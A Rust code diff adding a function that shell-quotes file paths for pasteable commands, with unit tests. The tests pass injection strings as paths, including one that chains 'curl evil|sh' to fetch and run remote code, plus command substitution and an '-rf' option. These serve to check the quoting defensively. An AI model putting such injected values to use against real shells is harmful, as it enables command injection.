@@ -20,6 +20,16 @@ pub(crate) fn clipped(text: &str) -> String {
     format!("{}{more}", escaped(&head))
 }
 
+/// A path in a command that somebody may paste: quoted where a shell would take a part of it for more than a name
+/// (<https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html#tag_19_02_02>).
+pub(crate) fn shell(path: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_./+-=:@%,".contains(c);
+    match path.chars().all(plain) && !path.is_empty() && !path.starts_with('-') {
+        true => path.to_owned(),
+        false => format!("'{}'", clipped(path).replace('\'', r"'\''")),
+    }
+}
+
 /// A size as Docker writes it: powers of 1000, three digits.
 pub(crate) fn size(bytes: u64) -> String {
     let units = ["B", "kB", "MB", "GB", "TB", "PB", "EB"];
@@ -52,6 +62,15 @@ pub(crate) fn listed<T: Display>(items: impl ExactSizeIterator<Item = T>) -> Str
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_path_in_a_command_is_one_word() {
+        assert_eq!(shell("/usr/bin/g++-12"), "/usr/bin/g++-12");
+        assert_eq!(shell("/opt/x;curl evil|sh #"), "'/opt/x;curl evil|sh #'");
+        assert_eq!(shell("/a'$(b)`c`"), r"'/a'\''$(b)`c`'");
+        assert_eq!(shell("-rf"), "'-rf'");
+        assert_eq!(shell("/a\nb"), r"'/a\nb'");
+    }
 
     #[test]
     fn sizes_read_like_dockers() {
